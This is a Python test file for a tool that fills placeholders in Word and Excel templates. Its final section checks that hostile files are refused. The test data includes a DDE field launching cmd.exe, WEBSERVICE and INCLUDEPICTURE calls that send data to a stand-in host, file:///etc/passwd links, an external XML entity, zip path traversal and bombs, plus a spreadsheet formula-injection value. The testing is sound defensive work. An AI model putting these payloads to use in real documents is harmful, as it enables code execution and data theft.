"""Placeholders in files as programs write them: split over runs, in every corner of a document; and files that would hurt."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable

import docx
import openpyxl
import pytest
from docx.oxml import OxmlElement, parse_xml
from docx.oxml.ns import nsdecls
from openpyxl.chart import BarChart, Reference
from openpyxl.styles import Font

from lib import i18n
from lib.documents.own.answers import Filled
from lib.documents.own.package import MAX_PARTS
from lib.documents.own.placeholder import Wrong
from lib.documents.own.template import Looked, Template
from lib.settings import UserError

VALUES = {
    "D1.02": Filled("63,4 %", 63.4375, 1, percent=True),
    "n D1.02": Filled("1 537", 1537.0),
    "D1.05": Filled("м/ж", note="nothing came", absent=True),
    "change D1.02": Filled("+1,2 п.п.", 1.2, 1),
    "school_name": Filled("«Тоо булагы» мектеби"),
    "evil": Filled('=HYPERLINK("http://x.example/"&A1)'),
}


class Told:
    """Answers that are written above, so that only the files are tested."""

    def of(self, inside: str) -> Filled | Wrong:
        return VALUES.get(inside, Wrong("unknown", "{{D1.02}}"))

    def is_one(self, inside: str) -> bool:
        return inside in VALUES


@pytest.fixture(autouse=True)
def english():
    i18n.use("en")
    yield
    i18n.use("ky")


def looked(name: str, content: bytes) -> Looked:
    return Template.of(name, content).looked_through(Told())  # type: ignore[arg-type]


def saved(book: object) -> bytes:
    stream = io.BytesIO()
    book.save(stream)  # type: ignore[attr-defined]
    return stream.getvalue()


def word(*runs: str) -> docx.document.Document:
    made = docx.Document()
    line = made.add_paragraph()
    for run in runs:
        line.add_run(run)
    return made


def refilled(content: bytes) -> docx.document.Document:
    found = looked("a.docx", content)
    assert found.faults == ()
    assert b"{{" not in b"".join(
        zipfile.ZipFile(io.BytesIO(found.content)).read(n) for n in zipfile.ZipFile(io.BytesIO(found.content)).namelist()
    )
    return docx.Document(io.BytesIO(found.content))


# --- Word ----------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "runs",
    [("a {{D1.02}} b",), ("a {", "{D1.02}} b"), ("a {{", "D", "1.", "02", "}} b"), ("a {{D1.02}", "}", " b"), ("a {{ D1.02  }} b",),
     tuple("a {{D1.02}} b")],
)  # fmt: skip
def test_a_placeholder_is_found_however_word_split_it(runs: tuple[str, ...]):
    made = refilled(saved(word(*runs)))
    assert made.paragraphs[0].text == "a 63,4 % b"


def test_the_value_looks_like_the_run_in_which_its_placeholder_begins():
    made = word("Quality: ", "{{D1", ".02}}", " and {{n D1.02}}")
    made.paragraphs[0].runs[1].bold = True
    [before, value, rest, after] = refilled(saved(made)).paragraphs[0].runs
    assert (before.text, value.text, rest.text, after.text) == ("Quality: ", "63,4 %", "", " and 1 537")
    assert value.bold and not after.bold


def test_every_corner_of_a_document_is_filled():
    made = word("{{D1.02}}{{D1.02}} {{school_name}}")
    table = made.add_table(2, 2)
    table.cell(1, 1).text = "{{D1.02}}"
    table.cell(0, 0).add_table(1, 1).cell(0, 0).text = "{{n D1.02}}"
    section = made.sections[0]
    section.header.paragraphs[0].text, section.footer.paragraphs[0].text = "{{school_name}}", "{{n D1.02}}"
    box = (
        f'<w:r {nsdecls("w")} xmlns:v="urn:schemas-microsoft-com:vml"><w:pict><v:shape><v:textbox><w:txbxContent><w:p>'
        "<w:r><w:t>in {{D1.</w:t>"
        "</w:r><w:r><w:t>02}} box</w:t></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r>"
    )
    made.paragraphs[0]._p.append(parse_xml(box))
    found = looked("a.docx", saved(made))
    places = {place for met in found.met for place in met.places}
    assert {"paragraph 1", "table 1, row 2, column 2", "header 1, paragraph 1", "footer 1, paragraph 1", "text box"} <= places
    filled = refilled(saved(made))
    assert filled.paragraphs[0].text == "63,4 %63,4 % «Тоо булагы» мектеби"
    assert filled.tables[0].cell(1, 1).text == "63,4 %" and filled.tables[0].cell(0, 0).tables[0].cell(0, 0).text == "1 537"
    assert filled.sections[0].header.paragraphs[0].text == "«Тоо булагы» мектеби"
    assert filled.sections[0].footer.paragraphs[0].text == "1 537"
    assert "in 63,4 %" in filled.element.xml and " box" in filled.element.xml


def test_hyphens_that_word_makes_elements_of_are_read_and_taken_out():
    made = word("{{n", " D1.02}} x")
    made.paragraphs[0].runs[0]._r.append(OxmlElement("w:softHyphen"))
    filled = refilled(saved(made))
    assert filled.paragraphs[0].text == "1 537 x" and "softHyphen" not in filled.paragraphs[0]._p.xml


@pytest.mark.parametrize(
    ("text", "seen", "why"),
    [("{{D1.2}}", "{{D1.2}}", "unknown"), ("{{D1.02", "{{D1.02", "not closed"), ("D1.02}}", "D1.02}}", "not opened"),
     ("{D1.02}", "{D1.02}", "two braces"), ("{{" + "x" * 300 + "}}", "xxx", "too long")],
)  # fmt: skip
def test_what_would_stay_is_named_with_its_place_and_nothing_is_filled(text: str, seen: str, why: str):
    made = word("fine {{D1.02}}")
    made.add_table(1, 2).cell(0, 1).text = text
    found = looked("a.docx", saved(made))
    assert found.content == b""
    [fault] = found.faults
    assert seen in fault.text and why in fault.why and fault.place == "table 1, row 1, column 2"
    with pytest.raises(UserError) as told:
        found.check()
    assert "a.docx" in str(told.value) and "table 1, row 1, column 2" in str(told.value)


def test_a_placeholder_over_two_paragraphs_is_no_placeholder():
    made = word("{{D1.02")
    made.add_paragraph("}}")
    assert [fault.place for fault in looked("a.docx", saved(made)).faults] == ["paragraph 1", "paragraph 2"]


def test_a_placeholder_in_the_name_of_the_file_is_named():
    made = word("x")
    made.core_properties.title = "{{D1.02}}"
    [fault] = looked("a.docx", saved(made)).faults
    assert "docProps/core.xml" in fault.place


def test_the_same_template_gives_the_same_bytes():
    content = saved(word("{{D1.02}}"))
    assert looked("a.docx", content).content == looked("a.docx", content).content != b""


# --- spreadsheets --------------------------------------------------------------------------------------------------------


def book(**cells: object) -> openpyxl.Workbook:
    made = openpyxl.Workbook()
    made.active.title = "Жыйынтык"
    for address, value in cells.items():
        made.active[address] = value
    return made


def recalled(content: bytes) -> openpyxl.Workbook:
    found = looked("a.xlsx", content)
    assert found.faults == ()
    archive = zipfile.ZipFile(io.BytesIO(found.content))
    assert not [name for name in archive.namelist() if b"{{" in archive.read(name)]
    return openpyxl.load_workbook(io.BytesIO(found.content))


def test_a_cell_with_one_placeholder_becomes_a_number_and_keeps_its_look():
    made = book(
        A1="{{D1.02}}", A2="{{D1.02}}", A3="{{D1.02}}", A4="{{D1.02}}", A5="{{n D1.02}}", A6="{{D1.05}}", A7="of {{n D1.02}}: {{D1.02}}"
    )
    sheet = made.active
    sheet["A1"].font = Font(bold=True)
    sheet["A2"].number_format, sheet["A3"].number_format, sheet["A4"].number_format = "0.00", "0%", "@"
    filled = recalled(saved(made)).active
    assert filled["A1"].value == pytest.approx(0.634375) and filled["A1"].number_format == "0.0%" and filled["A1"].font.bold
    assert (filled["A2"].value, filled["A2"].number_format) == (63.4375, "0.00")
    assert filled["A3"].value == pytest.approx(0.634375) and filled["A3"].number_format == "0%"
    assert filled["A4"].value == "63,4 %", "a cell of text stays text"
    assert (filled["A5"].value, filled["A5"].number_format) == (1537, "0")
    assert filled["A6"].value == "м/ж", "never 0"
    assert filled["A7"].value == "of 1 537: 63,4 %"


def test_formulas_charts_pages_and_names_stay():
    made = book(A1="{{n D1.02}}", A2="=A1*2", A3=5)
    sheet = made.active
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=1, min_row=1, max_row=3))
    sheet.add_chart(chart, "D2")
    sheet.page_setup.orientation, sheet.print_title_rows, sheet.freeze_panes = "landscape", "1:1", "B2"
    sheet.oddHeader.center.text = "&12{{n D1.02}} · {{school_name}}"
    before = zipfile.ZipFile(io.BytesIO(saved(made)))
    content = looked("a.xlsx", saved(made)).content
    after = zipfile.ZipFile(io.BytesIO(content))
    assert sorted(before.namelist()) == sorted(after.namelist())
    same = [name for name in before.namelist() if name.startswith(("xl/charts", "xl/drawings"))]
    assert same and all(before.read(name) == after.read(name) for name in same)
    filled = openpyxl.load_workbook(io.BytesIO(content)).active
    assert filled["A2"].value == "=A1*2" and filled["A1"].value == 1537
    assert (filled.page_setup.orientation, filled.print_title_rows, filled.freeze_panes) == ("landscape", "$1:$1", "B2")
    assert b"fullCalcOnLoad" in after.read("xl/workbook.xml")
    header = re.search(r"<oddHeader>(.*?)</oddHeader>", after.read("xl/worksheets/sheet1.xml").decode())
    assert header is not None and "12 1 537 · «Тоо булагы»" in header[1], "digits do not run into the size of letters"


def test_text_that_a_spreadsheet_would_run_is_quoted_text():
    filled = recalled(saved(book(A1="{{evil}}", A2="{{change D1.02}} since"))).active
    assert filled["A1"].data_type == "s" and filled["A1"].quotePrefix and filled["A1"].value.startswith("=HYPERLINK")
    assert filled["A2"].value == "+1,2 п.п. since"


def test_rich_text_split_over_runs_is_filled():
    from openpyxl.cell.rich_text import CellRichText, TextBlock
    from openpyxl.cell.text import InlineFont

    made = book()
    made.active["B2"] = CellRichText("a {{D1", TextBlock(InlineFont(b=True), ".02}} b"))
    assert str(recalled(saved(made)).active["B2"].value) == "a 63,4 % b"


def test_a_wrong_placeholder_of_a_sheet_is_named_by_its_cell():
    [fault] = looked("a.xlsx", saved(book(C7="{{D1.2}}"))).faults
    assert (fault.place, fault.near) == ("Жыйынтык!C7", "{{D1.02}}")


@pytest.mark.parametrize("where", ["tab", "formula"])
def test_a_placeholder_where_none_can_be_filled_is_named(where: str):
    made = book(A1='="{{D1.02}}"') if where == "formula" else book(A1="x")
    if where == "tab":
        made.active.title = "{{D1.02}}"
    assert [fault.text for fault in looked("a.xlsx", saved(made)).faults]


# --- files that would hurt -----------------------------------------------------------------------------------------------


def repacked(content: bytes, change: Callable[[dict[str, bytes]], None]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as old:
        parts = {name: old.read(name) for name in old.namelist()}
    change(parts)
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for name, body in parts.items():
            new.writestr(name, body)
    return made.getvalue()


def link(kind: str, target: str, mode: str = ' TargetMode="External"') -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        name = "word/_rels/document.xml.rels"
        space = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
        new = f'<Relationship Id="rIdX" Type="{space}/{kind}" Target="{target}"{mode}/>'
        parts[name] = parts[name].replace(b"</Relationships>", new.encode() + b"</Relationships>")

    return change


def with_part(name: str, body: bytes = b"x") -> Callable[[dict[str, bytes]], None]:
    return lambda parts: parts.update({name: body})


def in_body(xml: str) -> Callable[[dict[str, bytes]], None]:
    return lambda parts: parts.update(
        {"word/document.xml": parts["word/document.xml"].replace(b"<w:sectPr", xml.encode() + b"<w:sectPr", 1)}
    )


def field(code: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{code[at : at + 5]}</w:instrText></w:r>" for at in range(0, len(code), 5))
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


TYPES = "[Content_Types].xml"
HOSTILE: dict[str, Callable[[dict[str, bytes]], None]] = {
    "macros": with_part("word/vbaProject.bin"),
    "macro type": lambda p: p.update({TYPES: p[TYPES].replace(b"document.main+xml", b"document.macroEnabled.main+xml")}),
    "control": with_part("word/activeX/activeX1.xml", b"<a/>"),
    "embedded program": with_part("word/embeddings/oleObject1.bin"),
    "embedded macros": with_part("word/embeddings/book.xlsm"),
    "template from the web": link("attachedTemplate", "http://x.example/t.dotm"),
    "picture from the web": link("image", "http://x.example/p.png"),
    "picture from a share": link("image", "\\\\x\\p.png", ""),
    "script in a link": link("hyperlink", "javascript:alert(1)"),
    "file link": link("hyperlink", "file:///etc/passwd"),
    "foreign text": link("aFChunk", "c.html", ""),
    "dde field": in_body(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
    "include field": in_body(field('INCLUDEPICTURE "http://x.example/?d" \\d')),
    "simple field": in_body('<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;c:\\a.txt&quot;"/></w:p>'),
    "entities": lambda p: p.update({"word/document.xml": p["word/document.xml"].replace(
        b"<w:document", b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><w:document', 1)}),
    "outside entity": lambda p: p.update({"word/styles.xml": b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>'}),
    "torn xml": with_part("word/document.xml", b"<w:document"),
    "path out": with_part("../evil.xml", b"<a/>"),
    "many parts": lambda p: p.update({f"word/x{n}.txt": b"" for n in range(MAX_PARTS)}),
    "bomb": with_part("word/media/x.png", b"\0" * (31 * 2**20)),
    "no document": lambda p: p.pop("word/document.xml") and None,
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_a_word_file_that_would_hurt_is_refused_with_a_reason(name: str):
    with pytest.raises(UserError) as told:
        Template.of("a.docx", repacked(saved(word("{{D1.02}}")), HOSTILE[name]))
    assert str(told.value).startswith("a.docx: not taken: ")


@pytest.mark.parametrize("formula", ['WEBSERVICE("http://x.example/?"&A1)', "_xlfn.IMAGE(A2)", "cmd|'/c calc'!A0", 'RTD("a",,"b")'])
def test_a_formula_that_fetches_is_refused(formula: str):
    with pytest.raises(UserError):
        Template.of("a.xlsx", saved(book(A1=f"={formula}")))


def test_other_books_behind_a_sheet_are_refused():
    content = repacked(saved(book(A1="x")), with_part("xl/externalLinks/externalLink1.xml", b"<externalLink/>"))
    with pytest.raises(UserError):
        Template.of("a.xlsx", content)


@pytest.mark.parametrize("name", ["a.docm", "a.xlsm", "a.doc", "a.odt", "a", "a.zip", "a.dotm"])
def test_other_kinds_are_refused_by_name(name: str):
    with pytest.raises(UserError) as told:
        Template.of(name, saved(word("x")))
    assert ".docx" in str(told.value)


@pytest.mark.parametrize(
    "content", [b"", b"PK", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, b"x" * 1000, b"PK\x05\x06" + b"\0" * 18]
)
def test_what_is_no_such_file_is_refused(content: bytes):
    with pytest.raises(UserError):
        Template.of("a.docx", content)


def test_links_that_a_person_clicks_stay():
    content = repacked(saved(word("{{D1.02}}")), link("hyperlink", "mailto:school@example.kg"))
    filled = looked("a.docx", content).content
    assert b"mailto:school@example.kg" in zipfile.ZipFile(io.BytesIO(filled)).read("word/_rels/document.xml.rels")
